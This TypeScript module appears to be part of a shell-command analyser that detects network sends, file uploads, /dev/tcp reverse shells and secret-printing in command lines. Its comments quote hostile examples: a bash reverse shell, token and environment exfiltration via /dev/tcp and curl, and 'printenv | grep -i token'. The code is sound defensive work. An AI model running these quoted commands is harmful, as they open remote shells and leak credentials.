/**
 * `networkSends`: what the network clients of a command line send, from the client table
 * (`tables/network.ts`): the peers they reach, the run-time variables whose values go into the
 * request as data or as credentials, the local files they upload, the method, and, when a client
 * sends its standard input, the commands piped into it; the copies of local files to remote hosts
 * (`scp`, `rsync`); what a command writes into bash's sockets (`> /dev/tcp/host/port`) and the
 * shells tied to one; and interpreter code that sends the whole environment (`code/env.ts`).
 */
import { detailedView } from "./detailed-view.ts";
import { atFile, fileEffects, isRemote, requestItemFile, socatFile } from "./effects.ts";
import { interpreterName } from "./interpreter-input.ts";
import { environmentSends } from "./code/index.ts";
import { hostOf, urlPeer } from "./url.ts";
import {
  ARGUMENT_PRINTERS,
  CREDENTIAL_PRINTERS,
  ENVIRONMENT_PRINTERS,
  NETWORK_CLIENTS,
  REMOTE_COPIERS,
  SECRET_PATTERN_WORDS,
  SOCKET_FILES,
  SOCKET_SHELLS,
  TEXT_PASS_THROUGH,
  SOCAT_PEERS,
  STDIN_FIELD_SUFFIXES,
  STDIN_VALUES,
  XARGS_PLACEHOLDER,
  type NetworkClient,
} from "./tables/network.ts";
import { GREP_NO_LINES, NON_FILES, NON_FILE_PREFIXES } from "./tables/effects.ts";
import type { FileEffect, NetworkPeer, NetworkSend, ShellAnalysis, ShellCommand, ShellWord } from "./types.ts";

/** The word's value, or its text without quotes when part of it is only known at run time. */
function looseValue(word: ShellWord): string {
  return word.value ?? [...word.text].filter((c) => c !== '"' && c !== "'").join("");
}

const isNumber = (text: string): boolean => text.length > 0 && [...text].every((c) => c >= "0" && c <= "9");

/** True when an option's value names standard input. */
const isStdinValue = (value: string | undefined): boolean =>
  value !== undefined && (STDIN_VALUES.includes(value) || STDIN_FIELD_SUFFIXES.some((s) => value.endsWith(s)));

/** An httpie request item that is a header (`Authorization:"Bearer $T"`), not data (`k=v`, `k:=1`, `k==q`). */
function isHeaderItem(word: ShellWord): boolean {
  const text = looseValue(word);
  const colon = text.indexOf(":");
  const eq = text.indexOf("=");
  if (colon === -1) return false;
  return (eq === -1 || colon < eq) && text[colon + 1] !== "=";
}

/** Commands whose output reaches `index` through pipes, nearest first. */
function upstream(index: number, analysis: ShellAnalysis): number[] {
  const out: number[] = [];
  const queue = [index];
  while (queue.length > 0) {
    const at = queue.shift()!;
    for (const pipe of analysis.pipes)
      if (pipe.to === at && !out.includes(pipe.from) && pipe.from !== index) {
        out.push(pipe.from);
        queue.push(pipe.from);
      }
  }
  return out;
}

/** Run-time variables in a herestring or heredoc given to the command (`<<< "$TOKEN"`). */
function herestringEnv(cmd: ShellCommand): string[] {
  return cmd.redirects.flatMap((r) =>
    (r.kind === "herestring" || r.kind === "heredoc") && (r.fd ?? 0) === 0 ? (r.target?.env ?? []) : [],
  );
}

/** The file reads of every command of the line, computed once when a send needs them. */
type Reads = () => readonly FileEffect[];

/** The files the commands read whose output reaches a client (`cat f | nc host port`, `tar c dir | nc ...`). */
function filesRead(commands: readonly number[], reads: Reads): ShellWord[] {
  if (commands.length === 0) return [];
  return reads()
    .filter((e) => commands.includes(e.command) && (e.access === "read" || e.access === "use") && e.basis !== "operand")
    .map((e) => e.path);
}

/** A file whose content is something (not `/dev/null`, `/dev/fd/0`, a socket). */
const isFile = (word: ShellWord): boolean =>
  word.value === undefined ||
  (!NON_FILES.includes(word.value) && !NON_FILE_PREFIXES.some((p) => (word.value as string).startsWith(p)));

/** Files a command reads on stdin by redirection (`nc host 9000 < app.log`). */
const stdinFiles = (cmd: ShellCommand): ShellWord[] =>
  cmd.redirects.flatMap((r) => (r.kind === "read" && (r.fd ?? 0) === 0 && r.target !== undefined ? [r.target] : []));

function clientSend(cmd: ShellCommand, client: NetworkClient, analysis: ShellAnalysis, reads: Reads): NetworkSend {
  const view = detailedView(cmd.program, cmd.args);
  const env = new Set<string>();
  const payload: ShellWord[] = [];
  const add = (word: ShellWord): void => {
    payload.push(word);
    word.env?.forEach((name) => env.add(name));
  };
  const peers: NetworkPeer[] = [];
  for (const option of client.payload) for (const word of view.values.get(option) ?? []) add(word);
  const credentials = new Set<string>();
  for (const option of client.credentials ?? [])
    for (const word of view.values.get(option) ?? []) word.env?.forEach((name) => credentials.add(name));
  const files: ShellWord[] = [];
  for (const option of client.fileOptions ?? [])
    for (const word of view.values.get(option) ?? []) if (!isStdinValue(word.value)) files.push(word);
  for (const option of client.atFileOptions ?? [])
    for (const word of view.values.get(option) ?? []) {
      const file = atFile(word);
      if (file !== undefined) files.push(file);
    }
  let method = (client.methodOptions ?? []).flatMap((o) => view.values.get(o) ?? []).at(-1)?.value;
  const operands = view.operands.map((o) => o.word);
  switch (client.operands) {
    case "urls":
      for (const word of [...operands, ...(view.values.get("--url") ?? [])]) {
        peers.push(urlPeer(looseValue(word), word.env));
        add(word);
      }
      break;
    case "request-items": {
      // `http [METHOD] URL ITEM...`: a method is a word of capitals
      const first = operands[0]?.value;
      const at =
        first !== undefined && first.length > 0 && first === first.toUpperCase() && !first.includes(":") ? 1 : 0;
      if (at === 1) method = first;
      const url = operands[at];
      if (url !== undefined) {
        peers.push(urlPeer(looseValue(url), url.env));
        add(url);
      }
      for (const item of operands.slice(at + 1)) {
        const file = requestItemFile(item);
        if (file !== undefined) files.push(file);
        if (isHeaderItem(item)) item.env?.forEach((name) => credentials.add(name));
        else add(item);
      }
      break;
    }
    case "host": {
      const host = operands.find((w) => w.value === undefined || !isNumber(w.value));
      if (host !== undefined) peers.push({ host: host.value === undefined ? undefined : hostOf(host.value), path: "" });
      break;
    }
    case "addresses":
      for (const word of operands) {
        const parts = looseValue(word).split(":");
        if (parts.length >= 2 && SOCAT_PEERS.includes(parts[0]!.toLowerCase()))
          peers.push({ host: hostOf(parts[1]!), path: "" });
        const file = socatFile(word);
        if (file?.access === "read") files.push(file.path);
      }
      break;
    case "recipients":
      for (const word of operands) {
        const address = looseValue(word);
        const at = address.lastIndexOf("@");
        if (at > 0) peers.push({ host: hostOf(address.slice(at + 1).replace(">", "")), path: "" });
      }
      break;
    default: {
      const unknown: never = client.operands;
      return unknown;
    }
  }
  const fedIn =
    analysis.pipes.some((p) => p.to === cmd.index) ||
    cmd.redirects.some(
      (r) => r.kind === "herestring" || r.kind === "heredoc" || (r.kind === "read" && (r.fd ?? 0) === 0),
    );
  // `... | xargs -I{} curl -d "t={}" URL`: what is piped in becomes request data
  const placed =
    cmd.runtimeArgs && cmd.via.includes("xargs") && payload.some((w) => looseValue(w).includes(XARGS_PLACEHOLDER));
  const sendsStdin =
    placed ||
    client.stdin === "always" ||
    (client.stdin === "piped" && fedIn) ||
    (client.stdinOptions ?? []).some((o) => (view.values.get(o) ?? []).some((w) => isStdinValue(w.value)));
  const stdinFrom = sendsStdin ? upstream(cmd.index, analysis) : [];
  if (sendsStdin) {
    herestringEnv(cmd).forEach((name) => env.add(name));
    files.push(...stdinFiles(cmd), ...filesRead(stdinFrom, reads));
    for (const at of stdinFrom) {
      const producer = analysis.commands[at];
      if (producer === undefined) continue;
      herestringEnv(producer).forEach((name) => env.add(name));
      if (producer.program !== undefined && ARGUMENT_PRINTERS.includes(producer.program)) producer.args.forEach(add);
    }
  }
  // `*`: a substitution that prints the whole environment (`-d "$(env)"`)
  const environment = env.delete("*");
  credentials.delete("*");
  return {
    command: cmd.index,
    peers,
    env: [...env],
    environment,
    stdinFrom,
    ...(credentials.size > 0 && { credentials: [...credentials] }),
    ...(files.some(isFile) && { files: files.filter(isFile) }),
    ...(method !== undefined && { method: method.toUpperCase() }),
  };
}

/** The host of a remote operand: `user@host:path`, `host::module`, `rsync://user@host/path`, `scp://host/path`. */
function remoteHost(value: string): string | undefined {
  if (value.startsWith("rsync://") || value.startsWith("scp://") || value.startsWith("sftp://"))
    return urlPeer(value).host;
  if (!isRemote(value)) return undefined;
  const authority = value.slice(0, value.indexOf(":"));
  return hostOf(authority.slice(authority.lastIndexOf("@") + 1));
}

/** `scp FILE... host:DIR`, `rsync -a DIR/ user@host:DIR/`: the local sources copied to the remote destination. */
function copySend(cmd: ShellCommand): NetworkSend | undefined {
  const operands = detailedView(cmd.program, cmd.args).operands.map((o) => o.word);
  const destination = operands.at(-1);
  if (operands.length < 2 || destination === undefined) return undefined;
  const host = remoteHost(looseValue(destination));
  const remote = host !== undefined || (destination.value === undefined && destination.text.includes(":"));
  if (!remote) return undefined;
  const sources = operands.slice(0, -1).filter((w) => remoteHost(looseValue(w)) === undefined);
  if (sources.length === 0) return undefined;
  return {
    command: cmd.index,
    peers: [{ host, path: "" }],
    env: [],
    environment: false,
    stdinFrom: [],
    files: sources,
  };
}

/** The peer of a socket pseudo-file (`/dev/tcp/HOST/PORT`); `undefined` for any other path. */
function socketPeer(path: string | undefined): NetworkPeer | undefined {
  const prefix = path === undefined ? undefined : SOCKET_FILES.find((p) => path.startsWith(p));
  if (path === undefined || prefix === undefined) return undefined;
  const host = path.slice(prefix.length).split("/")[0] ?? "";
  return { host: hostOf(host), path: "" };
}

const isShell = (c: ShellCommand | undefined): boolean =>
  c?.program !== undefined && SOCKET_SHELLS.includes(interpreterName(c.program) ?? c.program);

/**
 * What a command sends through bash's sockets (`echo "$T" > /dev/tcp/host/80`, `cat f >
 * /dev/tcp/...`), and the shells tied to one: a shell whose input or output is the socket (`bash
 * -i >& /dev/tcp/h/p 0>&1`, `bash < /dev/tcp/h/p`), or `exec N<>/dev/tcp/...` with a shell
 * reading that descriptor (`sh <&N >&N`).
 */
function socketSend(cmd: ShellCommand, analysis: ShellAnalysis, reads: Reads): NetworkSend | undefined {
  let peer: NetworkPeer | undefined;
  let outgoing = false;
  let fd: number | undefined;
  for (const r of cmd.redirects) {
    const found = socketPeer(r.target?.value);
    if (found === undefined || r.kind === "heredoc" || r.kind === "herestring") continue;
    peer = found;
    outgoing ||= r.kind !== "read";
    fd = r.fd;
  }
  if (peer === undefined) return undefined;
  const descriptor = fd === undefined ? undefined : String(fd);
  const shell =
    isShell(cmd) ||
    (cmd.program === "exec" &&
      analysis.commands.some(
        (c) => isShell(c) && c.redirects.some((r) => r.kind === "dup" && r.target?.value === descriptor),
      ));
  const from = [cmd.index, ...upstream(cmd.index, analysis)];
  const env = new Set<string>();
  if (outgoing && cmd.program !== undefined && ARGUMENT_PRINTERS.includes(cmd.program))
    cmd.args.forEach((a) => a.env?.forEach((name) => env.add(name)));
  const environment =
    (outgoing &&
      cmd.program !== undefined &&
      Object.hasOwn(ENVIRONMENT_PRINTERS, cmd.program) &&
      cmd.args.length === 0) ||
    env.delete("*");
  const files = outgoing ? filesRead(from, reads) : [];
  return {
    command: cmd.index,
    peers: [peer],
    env: [...env],
    environment,
    stdinFrom: outgoing ? from : [],
    ...(files.length > 0 && { files }),
    ...(shell && { shell: true }),
  };
}

/** A `>`, `>>` or `&>` of standard output to a file other than the terminal's streams. */
function stdoutToFile(cmd: ShellCommand): boolean {
  return cmd.redirects.some(
    (r) =>
      (r.kind === "write" || r.kind === "append") &&
      (r.fd === undefined || r.fd === 1) &&
      !["/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/fd/1", "/dev/fd/2"].includes(r.target?.value ?? ""),
  );
}

/** `grep -q`, `-c`, `-l`, `-L` print no line; `-v` prints the lines that do not match: neither passes a printed secret on. */
function grepHides(cmd: ShellCommand): boolean {
  const { flags } = detailedView(cmd.program, cmd.args);
  return flags.has("-v") || flags.has("--invert-match") || GREP_NO_LINES.some((f) => flags.has(f));
}

/**
 * True when what command `at` prints is shown in the transcript: not redirected to a file, not
 * captured by a substitution, and piped (if at all) only through programs that print it on
 * (`| base64`, `| grep x`), up to the command that launched it (`bash -c`, `ssh`).
 */
function reachesTranscript(at: number, analysis: ShellAnalysis, depth = 0): boolean {
  const cmd = analysis.commands[at];
  if (cmd === undefined || depth > 16) return false;
  if (cmd.via.includes("command-substitution") || cmd.via.includes("process-substitution")) return false;
  if (stdoutToFile(cmd)) return false;
  const next = analysis.pipes.filter((p) => p.from === at);
  if (next.length > 0)
    return next.some((p) => {
      const to = analysis.commands[p.to];
      return (
        to?.program !== undefined &&
        TEXT_PASS_THROUGH.includes(to.program) &&
        !(to.program.endsWith("grep") && grepHides(to)) &&
        reachesTranscript(p.to, analysis, depth + 1)
      );
    });
  return cmd.launchedBy === undefined || reachesTranscript(cmd.launchedBy, analysis, depth + 1);
}

/** A `grep` downstream of `at` whose pattern picks secrets (`printenv | grep -i token`). */
function secretGrepAfter(at: number, analysis: ShellAnalysis): boolean {
  return analysis.pipes.some((p) => {
    if (p.from !== at) return false;
    const to = analysis.commands[p.to];
    if (to?.program === undefined || !to.program.endsWith("grep") || grepHides(to)) return false;
    return to.args.some((a) => {
      const v = (a.value ?? "").toLowerCase();
      return !v.startsWith("-") && SECRET_PATTERN_WORDS.some((w) => v.includes(w));
    });
  });
}

/**
 * What the line prints into the transcript that the model should not read: secret-bearing
 * run-time variables echoed (`echo $GITHUB_TOKEN`), a credential CLI's output (`gh auth token`),
 * and the environment picked for secrets (`printenv | grep -i token`). Entries are
 * {@link NetworkSend}s with `transcript` set and no peer.
 */
function transcriptPrints(analysis: ShellAnalysis): NetworkSend[] {
  const out: NetworkSend[] = [];
  for (const cmd of analysis.commands) {
    const program = cmd.program;
    if (program === undefined) continue;
    const printer = ARGUMENT_PRINTERS.includes(program);
    const credential = CREDENTIAL_PRINTERS.includes(program);
    const environmentPrinter =
      Object.hasOwn(ENVIRONMENT_PRINTERS, program) && cmd.args.every((a) => a.value?.startsWith("-"));
    if (!printer && !credential && !environmentPrinter) continue;
    const env = printer ? [...new Set(cmd.args.flatMap((a) => a.env ?? []))].filter((n) => n !== "*") : [];
    const environment = environmentPrinter && secretGrepAfter(cmd.index, analysis);
    if (!credential && env.length === 0 && !environment) continue;
    if (!reachesTranscript(cmd.index, analysis)) continue;
    out.push({
      command: cmd.index,
      peers: [],
      env,
      environment,
      stdinFrom: credential ? [cmd.index] : [],
      transcript: true,
    });
  }
  return out;
}

/** What each network client of the line sends (see {@link NetworkSend}), and what it prints into the transcript. */
export function networkSends(analysis: ShellAnalysis): NetworkSend[] {
  const sends: NetworkSend[] = transcriptPrints(analysis);
  let effects: readonly FileEffect[] | undefined;
  const reads: Reads = () => (effects ??= fileEffects(analysis));
  for (const cmd of analysis.commands) {
    const program = cmd.program;
    if (cmd.redirects.length > 0) {
      const socket = socketSend(cmd, analysis, reads);
      if (socket !== undefined) sends.push(socket);
    }
    if (program === undefined) continue;
    if (Object.hasOwn(NETWORK_CLIENTS, program))
      sends.push(clientSend(cmd, NETWORK_CLIENTS[program]!, analysis, reads));
    else if (REMOTE_COPIERS.includes(program)) {
      const copy = copySend(cmd);
      if (copy !== undefined) sends.push(copy);
    }
  }
  for (const exec of analysis.code) {
    // code given on the line or read from a script on disk
    if ((exec.source !== "literal" && exec.source !== "disk") || exec.code === undefined) continue;
    for (const sent of environmentSends(exec.code, exec.language))
      sends.push({
        command: exec.command,
        peers: sent.peers,
        env: sent.names,
        environment: sent.environment,
        stdinFrom: [],
      });
  }
  return sends;
}
